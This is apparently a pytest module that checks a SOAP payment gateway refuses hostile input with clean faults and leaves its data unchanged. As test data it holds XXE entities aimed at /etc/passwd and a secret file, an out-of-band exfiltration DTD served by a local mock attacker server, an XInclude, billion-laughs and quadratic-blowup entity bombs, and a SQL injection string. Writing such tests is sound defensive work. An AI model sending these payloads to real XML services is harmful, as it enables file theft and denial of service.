"""Hostile input: bad envelopes get a clear SOAP `Client` fault and change nothing.

Malformed XML, envelopes that are not one operation, values that cannot be read as their
type, DTDs and entities (XXE, billion laughs), bodies over the size limit and missing or
partial credentials are sent to the real gateway (gunicorn, over HTTP). Every refusal must
be a well-formed SOAP 1.1 Fault in the manual's `soap:` envelope with a `Client` faultcode
and a readable faultstring (HTTP 500 as SOAP 1.1 prescribes, 413 for an oversized body),
never an HTML page or a traceback; credentials problems are ordinary answers with
resultCode 20/29/37. None of it may change a stored row, and the server keeps answering.
What the real service accepted although the WSDL does not have it (order, omissions,
unknown elements) is in test_lenient_reading.py.
"""

import http.server
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import requests
from lxml import etree
from sqlalchemy import func, select

from gateway.config import Settings
from gateway.wire.app import create_app
from storage.database import Database
from storage.models import Base, ReportJob, TransactionPeriod
from tests.support.envelopes import (
    NS,
    SOAP_ENV,
    SOAP_PATH,
    context_xml,
    envelope,
    parse_response,
    text_of,
)
from tests.support.official import sample
from tests.support.servers import GatewayServer, InProcess, Shop, make_shop
from wsdl.resultcodes import ResultCode

pytestmark = pytest.mark.once

LIMIT = 1024 * 1024  # the default --max-body-bytes
SOAP12_ENV = "http://www.w3.org/2003/05/soap-envelope"
LEAKS = ("Traceback", 'File "', "NoneType", "AttributeError", "<html")


# --- helpers ---------------------------------------------------------------------------------


def client_fault(status: int, body: bytes, expected_status: int = 500) -> str:
    """Check `body` is a SOAP 1.1 Fault with a Client faultcode; return its faultstring."""
    text = body.decode("utf-8", errors="replace")
    assert status == expected_status, (status, text[:500])
    for leak in LEAKS:
        assert leak not in text, text[:1000]
    root = etree.fromstring(body)  # well-formed, or this raises
    assert root.tag == f"{{{SOAP_ENV}}}Envelope", root.tag
    fault = root.find(f"{{{SOAP_ENV}}}Body/{{{SOAP_ENV}}}Fault")
    assert fault is not None, text[:500]
    code = fault.findtext("faultcode") or ""
    prefix, _, local = code.partition(":")
    assert fault.nsmap.get(prefix) == SOAP_ENV, code  # a SOAP 1.1 fault code, qualified
    assert local == "Client" or local.startswith("Client."), code
    reason = (fault.findtext("faultstring") or "").strip()
    assert len(reason) > 10, reason
    return reason


def http_fault(response: requests.Response, expected_status: int = 500) -> str:
    assert response.headers["Content-Type"].startswith("text/xml"), response.headers
    return client_fault(response.status_code, response.content, expected_status)


def result_code(response: requests.Response) -> int:
    assert response.status_code == 200, (response.status_code, response.text[:500])
    ret = parse_response(response.content)
    code = int(text_of(ret, "resultCode") or "-1")
    description = text_of(ret, "resultDescription") or ""
    assert description.startswith(ResultCode(code).name), description
    return code


def wait_for_idle_worker(db: Database, timeout: float = 10.0) -> None:
    """Let report jobs queued by earlier tests finish: rendering one adds a row."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with db.read() as session:
            busy = session.scalar(
                select(func.count()).select_from(ReportJob)
                .where(ReportJob.status.in_((ReportJob.PENDING, ReportJob.RUNNING)))
            )
        if not busy:
            return
        time.sleep(0.1)


def snapshot(db: Database) -> dict[str, Any]:
    """Row counts of every table, and every period's state (a closed period would show).
    The request journal is left out: it records refused requests too, by design."""
    wait_for_idle_worker(db)
    with db.read() as session:
        state: dict[str, Any] = {
            table.name: session.scalar(select(func.count()).select_from(table))
            for table in Base.metadata.sorted_tables if table.name != "journal_entries"
        }
        state["periods"] = session.execute(
            select(TransactionPeriod.id, TransactionPeriod.status, TransactionPeriod.public_id)
            .order_by(TransactionPeriod.id)
        ).all()
    return state


@contextmanager
def unchanged(db: Database) -> Iterator[None]:
    before = snapshot(db)
    yield
    after = snapshot(db)
    assert after == before


def operation(name: str, inner: str) -> bytes:
    return envelope(name, inner).encode()


def valid_context(shop: Shop) -> str:
    return context_xml(shop.reseller_id, password=shop.password)


def mark_sample(shop: Shop, comment: str = "comment") -> bytes:
    """The documentation's markTransactionPeriod envelope (shop scope), valid credentials."""
    body = sample("markTransactionPeriod-shop.xml", RESELLER_ID=shop.reseller_id,
                  RESELLER_PASSWORD=shop.password)
    return body.replace(b"<clientComment>comment</clientComment>",
                        f"<clientComment>{comment}</clientComment>".encode())


def padded_mark(shop: Shop, size: int) -> bytes:
    """A valid markTransactionPeriod of exactly `size` bytes (the clientComment is padding)."""
    base = len(mark_sample(shop, ""))
    body = mark_sample(shop, "x" * (size - base))
    assert len(body) == size
    return body


def chunks(body: bytes, size: int = 64 * 1024) -> Iterator[bytes]:
    """A generator body: requests sends it with Transfer-Encoding: chunked."""
    for start in range(0, len(body), size):
        yield body[start:start + size]


@pytest.fixture(scope="module")
def log_start(server: GatewayServer) -> int:
    """Where the server log stood before this module's requests."""
    return server.log_path.stat().st_size


@pytest.fixture(autouse=True)
def _log_watch(request: pytest.FixtureRequest) -> None:
    """Takes `log_start` before the module's first request to the shared server."""
    if "server" in request.fixturenames:
        request.getfixturevalue("log_start")


class Attacker:
    """An HTTP server an XXE payload would have to reach; it records every request."""

    def __init__(self, secret: Path) -> None:
        self.hits: list[str] = []
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.hits.append(self.path)
                port = self.server.server_address[1]
                dtd = (  # the classic out-of-band exfiltration DTD
                    f'<!ENTITY % file SYSTEM "file://{secret}">'
                    f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM "
                    f"'http://127.0.0.1:{port}/leak?%file;'>\">%eval;%exfil;"
                ).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/xml-dtd")
                self.send_header("Content-Length", str(len(dtd)))
                self.end_headers()
                self.wfile.write(dtd)

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def secret(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A local file with a unique marker: what an XXE would try to read."""
    marker = f"XXE-SECRET-{uuid.uuid4().hex}"
    path = tmp_path_factory.mktemp("xxe") / "secret.txt"
    path.write_text(marker)
    return path, marker


@pytest.fixture(scope="module")
def attacker(secret: tuple[Path, str]) -> Iterator[Attacker]:
    server = Attacker(secret[0])
    yield server
    server.close()


# --- malformed and schema-invalid envelopes ----------------------------------------------


def _env(body: str, header: str = "<soapenv:Header/>") -> bytes:
    return (
        f'<soapenv:Envelope xmlns:soapenv="{SOAP_ENV}" xmlns:ext="{NS}">{header}'
        f"<soapenv:Body>{body}</soapenv:Body></soapenv:Envelope>"
    ).encode()


def _mark(ctx: str, extra: str = "") -> bytes:
    return operation("markTransactionPeriod", ctx + extra)


def _ctx_replace(old: str, new: str) -> Callable[[str], bytes]:
    def build(ctx: str) -> bytes:
        assert old in ctx
        return _mark(ctx.replace(old, new))

    return build


TIMEOUT = "<clientRequestTimeout>0</clientRequestTimeout>"

# (id, envelope from a valid context, a word the faultstring must contain). Every envelope
# carries valid credentials, so a request that slipped through would mark a period.
MALFORMED: list[tuple[str, Callable[[str], bytes], str]] = [
    ("not-xml", lambda ctx: b"this is not XML at all", "malformed XML"),
    ("empty", lambda ctx: b"", "empty"),
    ("whitespace-only", lambda ctx: b"  \r\n\t ", "empty"),
    ("truncated", lambda ctx: _mark(ctx)[:-40], "malformed XML"),
    ("unclosed-element", lambda ctx: _mark(ctx).replace(b"</channel>", b""), "malformed XML"),
    ("invalid-utf8", lambda ctx: _mark(ctx).replace(b"pytest", b"py\xff\xfetest"),
     "malformed XML"),
    ("nul-character-reference", _ctx_replace("pytest", "py&#0;test"), "malformed XML"),
    ("undeclared-entity", _ctx_replace("pytest", "&nope;"), "malformed XML"),
    ("too-deep", lambda ctx: _mark(ctx, "<a>" * 5000 + "</a>" * 5000), "malformed XML"),
    ("wrong-root", lambda ctx: b"<order><item>1</item></order>", "Envelope"),
    ("operation-without-envelope",
     lambda ctx: f'<ext:markTransactionPeriod xmlns:ext="{NS}">{ctx}'
                 "</ext:markTransactionPeriod>".encode(), "Envelope"),
    ("no-body", lambda ctx: f'<soapenv:Envelope xmlns:soapenv="{SOAP_ENV}"><soapenv:Header/>'
                            "</soapenv:Envelope>".encode(), "Body"),
    ("empty-body", lambda ctx: _env(""), "operation element"),
    ("comment-only-body", lambda ctx: _env("<!-- nothing here -->"), "operation element"),
    ("text-in-body", lambda ctx: _env("markTransactionPeriod"), "text"),
    ("two-operations",
     lambda ctx: _env(f"<ext:markTransactionPeriod>{ctx}</ext:markTransactionPeriod>" * 2),
     "exactly one"),
    ("fault-as-request",
     lambda ctx: _env("<soapenv:Fault><faultcode>soapenv:Server</faultcode>"
                      "<faultstring>x</faultstring></soapenv:Fault>"), "Fault"),
    ("unknown-operation", lambda ctx: operation("closeEverything", ctx), "closeEverything"),
    ("response-as-request",
     lambda ctx: operation("markTransactionPeriodResponse",
                           "<return><resultCode>0</resultCode></return>"),
     "markTransactionPeriodResponse"),
    ("unqualified-operation",
     lambda ctx: _env(f"<markTransactionPeriod>{ctx}</markTransactionPeriod>"),
     "markTransactionPeriod"),
    ("operation-in-another-namespace",
     lambda ctx: _env(f'<o:markTransactionPeriod xmlns:o="urn:other">{ctx}'
                      "</o:markTransactionPeriod>"), "urn:other"),
    ("long-not-a-number", _ctx_replace(TIMEOUT, "<clientRequestTimeout>abc</clientRequestTimeout>"),
     "clientRequestTimeout"),
    ("long-empty", _ctx_replace(TIMEOUT, "<clientRequestTimeout></clientRequestTimeout>"),
     "clientRequestTimeout"),
    ("long-out-of-range",
     _ctx_replace(TIMEOUT, "<clientRequestTimeout>99999999999999999999</clientRequestTimeout>"),
     "clientRequestTimeout"),
    ("long-fraction", _ctx_replace(TIMEOUT, "<clientRequestTimeout>1.5</clientRequestTimeout>"),
     "clientRequestTimeout"),
    ("int-not-a-number",
     lambda ctx: operation("getPaymentStatus", f"{ctx}<invoiceReference>1</invoiceReference>"
                                               "<invoiceVersion>abc</invoiceVersion>"),
     "invoiceVersion"),
    ("decimal-not-a-number",
     lambda ctx: operation("sendInvoice", f"{ctx}<invoice><totalAmount><currency>SEK</currency>"
                                          "<value>1,50</value></totalAmount></invoice>"),
     "xs:decimal"),
    ("datetime-malformed",
     lambda ctx: operation("sendInvoice", f"{ctx}<invoice><issueDate>yesterday</issueDate>"
                                          "</invoice>"), "issueDate"),
    ("enumeration-unknown",
     lambda ctx: operation("sendInvoice", f"{ctx}<invoice><paymentMode>CASH</paymentMode>"
                                          "</invoice>"), "IMMEDIATE_DEBIT"),
    ("int-out-of-range",
     lambda ctx: operation("getPaymentStatus", f"{ctx}<invoiceReference>1</invoiceReference>"
                                               "<invoiceVersion>2147483648</invoiceVersion>"),
     "xs:int"),
]


@pytest.mark.parametrize(("build", "expected"), [(b, e) for _, b, e in MALFORMED],
                         ids=[name for name, _, _ in MALFORMED])
def test_malformed_envelope_gets_client_fault(
    server: GatewayServer, shop: Shop, build: Callable[[str], bytes], expected: str
) -> None:
    with unchanged(server.db):
        reason = http_fault(server.post(build(valid_context(shop))))
    assert expected.lower() in reason.lower(), reason


def test_value_fault_names_element_and_type(server: GatewayServer, shop: Shop) -> None:
    ctx = valid_context(shop).replace(TIMEOUT, "<clientRequestTimeout>abc</clientRequestTimeout>")
    reason = http_fault(server.post(_mark(ctx)))
    assert "'abc'" in reason and "xs:long" in reason, reason
    assert "markTransactionPeriod/context/clientRequestTimeout" in reason, reason


def test_soap12_envelope_gets_version_mismatch(server: GatewayServer, shop: Shop) -> None:
    """SOAP 1.1 (section 4.4): an Envelope in another namespace is a VersionMismatch."""
    body = (f'<e:Envelope xmlns:e="{SOAP12_ENV}"><e:Body><ext:markTransactionPeriod '
            f'xmlns:ext="{NS}">{valid_context(shop)}</ext:markTransactionPeriod></e:Body>'
            "</e:Envelope>").encode()
    with unchanged(server.db):
        response = server.post(body)
    assert response.status_code == 500
    assert response.text.startswith(f'<soap:Envelope xmlns:soap="{SOAP_ENV}"><soap:Body>'
                                     "<soap:Fault><faultcode>soap:VersionMismatch</faultcode>")
    fault = etree.fromstring(response.content).find(f"{{{SOAP_ENV}}}Body/{{{SOAP_ENV}}}Fault")
    assert SOAP12_ENV in (fault.findtext("faultstring") or "")


def test_xinclude_is_not_processed(server: GatewayServer, shop: Shop) -> None:
    """An XInclude inside a string is an unknown element, skipped: never resolved."""
    include = ('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"'
               ' parse="text"/>')
    body = _mark(valid_context(shop).replace("<clientId>pytest</clientId>",
                                             f"<clientId>py{include}test</clientId>"))
    response = server.post(body)
    assert result_code(response) == 0
    assert "root:" not in response.text


# --- DTDs and entities -------------------------------------------------------------------


def _with_doctype(doctype: str, shop: Shop, comment: str) -> bytes:
    """A valid markTransactionPeriod, with a DOCTYPE and `comment` as its clientComment."""
    return f'<?xml version="1.0"?>{doctype}'.encode() + mark_sample(shop, comment)


@pytest.mark.parametrize("target", ["secret-file", "etc-passwd"])
def test_xxe_external_entity_is_not_read(
    server: GatewayServer, shop: Shop, secret: tuple[Path, str], target: str
) -> None:
    path, marker = secret if target == "secret-file" else (Path("/etc/passwd"), "root:")
    body = _with_doctype(f'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file://{path}">]>', shop, "&xxe;")
    with unchanged(server.db):
        response = server.post(body)
        assert marker not in response.text
        reason = http_fault(response)
    assert "Document Type Declaration" in reason, reason


def test_xxe_entity_in_principal_id_is_not_read(
    server: GatewayServer, shop: Shop, secret: tuple[Path, str]
) -> None:
    path, marker = secret
    body = f'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file://{path}">]>'.encode()
    body += operation("markTransactionPeriod", context_xml("&xxe;", password=shop.password))
    with unchanged(server.db):
        response = server.post(body)
        assert marker not in response.text
        http_fault(response)


def test_xxe_parameter_entity_from_local_file(
    server: GatewayServer, shop: Shop, secret: tuple[Path, str], tmp_path: Path
) -> None:
    _, marker = secret
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(f'<!ENTITY leak "{marker}">')
    doctype = f'<!DOCTYPE foo [<!ENTITY % ext SYSTEM "file://{dtd}"> %ext;]>'
    with unchanged(server.db):
        response = server.post(_with_doctype(doctype, shop, "&leak;"))
        assert marker not in response.text
        http_fault(response)


def test_xxe_out_of_band_parameter_entity_makes_no_request(
    server: GatewayServer, shop: Shop, secret: tuple[Path, str], attacker: Attacker
) -> None:
    _, marker = secret
    doctype = f'<!DOCTYPE foo [<!ENTITY % remote SYSTEM "{attacker.url}/evil.dtd"> %remote;]>'
    with unchanged(server.db):
        response = server.post(_with_doctype(doctype, shop, "comment"))
        assert attacker.hits == []
        assert marker not in response.text
        http_fault(response)


@pytest.mark.parametrize("where", ["external-dtd", "external-entity"])
def test_external_references_make_no_network_access(
    server: GatewayServer, shop: Shop, attacker: Attacker, where: str
) -> None:
    if where == "external-dtd":
        doctype, comment = f'<!DOCTYPE Envelope SYSTEM "{attacker.url}/ext.dtd">', "comment"
    else:
        doctype, comment = f'<!DOCTYPE foo [<!ENTITY e SYSTEM "{attacker.url}/e.xml">]>', "&e;"
    with unchanged(server.db):
        response = server.post(_with_doctype(doctype, shop, comment))
        assert attacker.hits == []
        http_fault(response)


def test_unreachable_external_dtd_answers_at_once(server: GatewayServer, shop: Shop) -> None:
    doctype = '<!DOCTYPE x SYSTEM "http://127.0.0.1:1/evil.dtd">'
    started = time.monotonic()
    with unchanged(server.db):
        reason = http_fault(server.post(_with_doctype(doctype, shop, "comment")))
    assert time.monotonic() - started < 5, "the gateway must not try to fetch the DTD"
    assert "Document Type Declaration" in reason, reason


def test_billion_laughs_is_refused_fast(server: GatewayServer, shop: Shop) -> None:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 11)
    )
    body = _with_doctype(f"<!DOCTYPE lolz [{entities}]>", shop, "&lol10;")
    with unchanged(server.db):
        started = time.monotonic()
        response = server.post(body)
        elapsed = time.monotonic() - started
        http_fault(response)
    assert "lollollol" not in response.text
    assert elapsed < 5, f"billion laughs took {elapsed:.1f}s"  # a guard against hanging only
    assert result_code(server.post(operation("benchmarkingNop", ""))) == 0


def test_quadratic_blowup_is_refused_fast(server: GatewayServer, shop: Shop) -> None:
    """One 50 kB entity referenced 15,000 times: 750 MB if expanded, no nesting needed."""
    doctype = f'<!DOCTYPE kaboom [<!ENTITY a "{"A" * 50_000}">]>'
    body = _with_doctype(doctype, shop, "&a;" * 15_000)
    assert len(body) < LIMIT
    with unchanged(server.db):
        started = time.monotonic()
        response = server.post(body)
        elapsed = time.monotonic() - started
        http_fault(response)
    assert "AAAAAAAAAA" not in response.text
    assert elapsed < 5, f"quadratic blowup took {elapsed:.1f}s"


def test_harmless_internal_dtd_is_refused_too(server: GatewayServer, shop: Shop) -> None:
    """SOAP 1.1 forbids a DTD outright: even one declaring nothing is refused."""
    with unchanged(server.db):
        reason = http_fault(server.post(_with_doctype("<!DOCTYPE Envelope []>", shop, "c")))
    assert "Document Type Declaration" in reason, reason


# --- the size limit ----------------------------------------------------------------------


def test_body_over_limit_is_refused_with_413(server: GatewayServer, shop: Shop) -> None:
    with unchanged(server.db):
        reason = http_fault(server.post(padded_mark(shop, LIMIT + 1)), 413)
    assert str(LIMIT) in reason, reason


def test_much_larger_body_is_refused_with_413(server: GatewayServer, shop: Shop) -> None:
    with unchanged(server.db):
        http_fault(server.post(padded_mark(shop, 8 * LIMIT)), 413)


def test_chunked_body_over_limit_is_refused_with_413(server: GatewayServer, shop: Shop) -> None:
    with unchanged(server.db):
        response = server.post(chunks(padded_mark(shop, 2 * LIMIT)))
        http_fault(response, 413)
    assert response.request.headers.get("Transfer-Encoding") == "chunked"


def test_chunked_body_just_over_limit_is_refused(server: GatewayServer, shop: Shop) -> None:
    with unchanged(server.db):
        http_fault(server.post(chunks(padded_mark(shop, LIMIT + 1))), 413)


def test_body_at_limit_is_processed(server: GatewayServer, shop: Shop) -> None:
    response = server.post(padded_mark(shop, LIMIT))
    assert result_code(response) == 0


def test_chunked_body_under_limit_is_processed(server: GatewayServer, shop: Shop) -> None:
    response = server.post(chunks(padded_mark(shop, LIMIT - 1000)))
    assert response.request.headers.get("Transfer-Encoding") == "chunked"
    assert result_code(response) == 0


def test_limit_is_configurable(tmp_path: Path) -> None:
    small = GatewayServer(tmp_path, "--max-body-bytes", "2048", "--no-worker")
    try:
        small.start()
        shop = make_shop(small.db)
        with unchanged(small.db):
            reason = http_fault(small.post(padded_mark(shop, 3 * 1024)), 413)
            http_fault(small.post(chunks(padded_mark(shop, 3 * 1024))), 413)
        assert "2048" in reason, reason
        assert result_code(small.post(padded_mark(shop, 2048))) == 0
        assert result_code(small.post(mark_sample(shop))) == 0
    finally:
        small.stop()
        small.db.dispose()


# --- missing or partial credentials ------------------------------------------------------


def _principal(inner: str, password: str | None = "secret-pw") -> str:
    pw = f"<password>{password}</password>" if password is not None else ""
    return (f"<context><channel>WS</channel>{TIMEOUT}"
            f"<initiatorPrincipalId>{inner}</initiatorPrincipalId>{pw}</context>")


CREDENTIALS: list[tuple[str, Callable[[Shop], str], ResultCode]] = [
    ("no-context", lambda shop: "", ResultCode.AUTHENTICATION_FAILED),
    ("context-with-timeout-only", lambda shop: f"<context>{TIMEOUT}</context>",
     ResultCode.AUTHENTICATION_FAILED),
    ("no-initiatorPrincipalId", lambda shop: context_xml(None, password=shop.password),
     ResultCode.AUTHENTICATION_FAILED),
    ("empty-initiatorPrincipalId", lambda shop: _principal("", shop.password),
     ResultCode.AUTHENTICATION_FAILED),
    ("reseller-without-id",
     lambda shop: _principal("<type>RESELLERUSER</type><userId>9900</userId>", shop.password),
     ResultCode.INITIATOR_PRINCIPAL_NOT_FOUND),
    ("reseller-with-empty-id",
     lambda shop: _principal("<id></id><type>RESELLERUSER</type><userId>9900</userId>",
                             shop.password), ResultCode.INITIATOR_PRINCIPAL_NOT_FOUND),
    ("unknown-reseller",
     lambda shop: context_xml("no-such-shop-" + uuid.uuid4().hex, password=shop.password),
     ResultCode.INITIATOR_PRINCIPAL_NOT_FOUND),
    ("unknown-reseller-user",
     lambda shop: context_xml(shop.reseller_id, password=shop.password, user_id="1234"),
     ResultCode.INITIATOR_PRINCIPAL_NOT_FOUND),
    ("reseller-without-userId",
     lambda shop: context_xml(shop.reseller_id, password=shop.password, user_id=None),
     ResultCode.INITIATOR_PRINCIPAL_NOT_FOUND),
    ("wrong-password", lambda shop: context_xml(shop.reseller_id, password="wrong-pw"),
     ResultCode.AUTHENTICATION_FAILED),
    ("empty-password", lambda shop: context_xml(shop.reseller_id, password=""),
     ResultCode.AUTHENTICATION_FAILED),
    ("missing-password", lambda shop: context_xml(shop.reseller_id, password=None),
     ResultCode.AUTHENTICATION_FAILED),
    ("other-case-password",
     lambda shop: context_xml(shop.reseller_id, password=shop.password.upper()),
     ResultCode.AUTHENTICATION_FAILED),
    ("unknown-terminal",
     lambda shop: context_xml(uuid.uuid4().hex, "TERMINALID", password="pw", user_id=None),
     ResultCode.INVALID_INITIATOR_PRINCIPAL_ID),
    ("terminal-without-id", lambda shop: _principal("<type>TERMINALID</type>", "pw"),
     ResultCode.INVALID_INITIATOR_PRINCIPAL_ID),
    ("garbage-principal-type",
     lambda shop: context_xml(shop.reseller_id, "'; DROP TABLE resellers; --",
                              password=shop.password),
     ResultCode.INVALID_INITIATOR_PRINCIPAL_ID),
    ("id-without-type", lambda shop: _principal(f"<id>{shop.reseller_id}</id>", shop.password),
     ResultCode.INVALID_INITIATOR_PRINCIPAL_ID),
]


@pytest.mark.parametrize(("build", "expected"), [(b, c) for _, b, c in CREDENTIALS],
                         ids=[name for name, _, _ in CREDENTIALS])
def test_bad_credentials_get_result_code_and_change_nothing(
    server: GatewayServer, shop: Shop, build: Callable[[Shop], str], expected: ResultCode
) -> None:
    with unchanged(server.db):
        response = server.post(operation("markTransactionPeriod", build(shop)))
        assert result_code(response) == expected
    for leak in LEAKS:
        assert leak not in response.text


def test_wrong_credentials_do_not_close_a_period(server: GatewayServer, shop: Shop) -> None:
    def shop_periods() -> list[tuple[str, str | None]]:
        with server.db.read() as session:
            return [tuple(row) for row in session.execute(
                select(TransactionPeriod.status, TransactionPeriod.public_id)
                .where(TransactionPeriod.reseller_id == shop.reseller_id)
                .order_by(TransactionPeriod.id)
            )]

    before = shop_periods()
    assert all(status == TransactionPeriod.OPEN for status, _ in before)
    for password in ("wrong-pw", "", shop.password + "x"):
        response = server.post(mark_sample(shop).replace(
            f"<password>{shop.password}</password>".encode(),
            f"<password>{password}</password>".encode()))
        assert result_code(response) == ResultCode.AUTHENTICATION_FAILED
    assert shop_periods() == before

    ret = parse_response(server.post(mark_sample(shop)).content)
    assert text_of(ret, "resultCode") == "0"
    closed = [public_id for status, public_id in shop_periods()
              if status == TransactionPeriod.CLOSED]
    assert closed == [text_of(ret, "transactionPeriodId")]  # the first close is the valid one


# --- HTTP methods and paths --------------------------------------------------------------


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "OPTIONS"])
def test_other_methods_on_soap_path_get_405(server: GatewayServer, shop: Shop,
                                            method: str) -> None:
    with unchanged(server.db):
        response = requests.request(method, server.endpoint, data=mark_sample(shop), timeout=10)
    assert response.status_code == 405, response.text
    assert "POST" in response.headers.get("Allow", ""), response.headers
    assert "Traceback" not in response.text


def test_get_without_wsdl_gets_405(server: GatewayServer) -> None:
    response = requests.get(server.endpoint, timeout=10)
    assert response.status_code == 405
    assert "POST" in response.headers.get("Allow", "")


def test_unknown_path_gets_404(server: GatewayServer, shop: Shop) -> None:
    assert requests.get(server.base + "/etc/passwd", timeout=10).status_code == 404
    with unchanged(server.db):
        response = requests.post(server.base + "/extclientproxy/service/v3",
                                 data=mark_sample(shop), timeout=10)
    assert response.status_code == 404


# --- in-process: rules easier to reach without a server -----------------------------------


def test_inprocess_impossible_date_is_client_fault(inprocess: InProcess) -> None:
    """A dateTime of the right shape naming no real day: a Client fault, not a crash."""
    shop = make_shop(inprocess.db)
    invoice = ("<invoice><issueDate>2024-02-30T10:00:00</issueDate><totalAmount>"
               "<currency>SEK</currency><value>1.00</value></totalAmount></invoice>")
    status, body = inprocess.post(operation("sendInvoice", valid_context(shop) + invoice))
    assert "day" in client_fault(status, body)


def test_inprocess_comments_and_pis_around_the_operation_are_ignored(
    inprocess: InProcess,
) -> None:
    shop = make_shop(inprocess.db)
    body = _env(f"<!-- a note --><?app hint?><ext:markTransactionPeriod>{valid_context(shop)}"
                "</ext:markTransactionPeriod><!-- trailing -->")
    status, out = inprocess.post(body)
    assert status == 200, out
    assert text_of(parse_response(out), "resultCode") == "0"


def test_inprocess_unhandled_error_is_a_server_fault_without_traceback(
    inprocess: InProcess, monkeypatch: pytest.MonkeyPatch
) -> None:
    def explode(*args: Any) -> Any:
        raise RuntimeError("boom in the SOAP layer")

    with monkeypatch.context() as patch:
        patch.setattr(inprocess.app.soap, "handle", explode)
        status, body = inprocess.post(operation("benchmarkingNop", ""))
    assert status == 500
    text = body.decode()
    assert "boom" not in text and "Traceback" not in text
    fault = etree.fromstring(body).find(f"{{{SOAP_ENV}}}Body/{{{SOAP_ENV}}}Fault")
    assert fault is not None and (fault.findtext("faultcode") or "").endswith(":Server")
    status, body = inprocess.post(operation("benchmarkingNop", ""))  # and it still answers
    assert status == 200 and text_of(parse_response(body), "resultCode") == "0"


def test_inprocess_body_without_content_length_is_limited(tmp_path: Path) -> None:
    app = InProcess(create_app(Settings(database_url=f"sqlite:///{tmp_path / 'l.sqlite3'}",
                                        max_body_bytes=512, embedded_worker=False),
                                  create_schema=True))
    big = operation("benchmarkingNop", "").replace(b"<soapenv:Header/>",
                                                  b"<soapenv:Header/>" + b" " * 600)
    status, body = app.request("POST", body=big, headers={"CONTENT_LENGTH": ""})
    assert "512" in client_fault(status, body, 413)
    status, body = app.request("POST", body=operation("benchmarkingNop", ""),
                               headers={"CONTENT_LENGTH": ""})
    assert status == 200, body


def test_inprocess_limit_from_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SEQR_DATABASE_URL", f"sqlite:///{tmp_path / 'env.sqlite3'}")
    monkeypatch.setenv("SEQR_MAX_BODY_BYTES", "300")
    app = InProcess(create_app(Settings.from_env(), create_schema=True))
    nop = operation("benchmarkingNop", "")
    assert len(nop) < 300
    assert app.post(nop)[0] == 200
    client_fault(*app.post(nop + b" " * 300), expected_status=413)


@pytest.mark.parametrize("method", ["PUT", "DELETE", "HEAD"])
def test_inprocess_other_methods_get_405(inprocess: InProcess, method: str) -> None:
    status, _ = inprocess.request(method, body=operation("benchmarkingNop", ""))
    assert status == 405


# --- afterwards: the server still answers and logged no crash -----------------------------


def test_server_still_answers_after_hostile_input(
    server: GatewayServer, shop: Shop, log_start: int
) -> None:
    assert result_code(server.post(operation("benchmarkingNop", ""))) == 0
    response = server.post(mark_sample(shop))
    assert result_code(response) == 0
    health = requests.get(server.base + "/health", timeout=10)
    assert health.status_code == 200 and health.json()["status"] == "ok"
    with open(server.log_path, "rb") as log:
        log.seek(log_start)
        written = log.read().decode(errors="replace")
    assert "Error handling request" not in written, written[-3000:]  # gunicorn: app raised
    assert "unhandled error in the SOAP layer" not in written, written[-3000:]
    assert f"POST {SOAP_PATH}" in written  # the access log: the right file and offset
